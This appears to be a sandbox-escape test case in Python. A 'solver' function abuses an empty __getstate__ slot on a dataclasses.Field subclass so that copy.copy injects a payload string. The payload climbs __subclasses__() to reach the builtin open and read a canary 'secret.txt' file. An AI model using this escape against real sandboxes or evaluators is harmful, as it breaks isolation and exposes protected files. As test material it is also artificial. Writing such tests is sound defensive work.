# z12_slot_getstate [escape]: a slot named __getstate__ that is empty makes copy take the state from __getattr__
import copy
import dataclasses

TEXT = "x=[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['open']('@CANARY@/secret.txt').read()"


class F(dataclasses.Field):
    __slots__ = ("__getstate__",)

    def __getattr__(self, key):
        if key == "__getstate__":
            return lambda: (None, {"name": TEXT, "default": 1, "default_factory": dataclasses.MISSING, "init": True})
        raise AttributeError(key)


def solver(a, b):
    f = F(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False)
    g = copy.copy(f)
    return [str(g.name)[:20]]
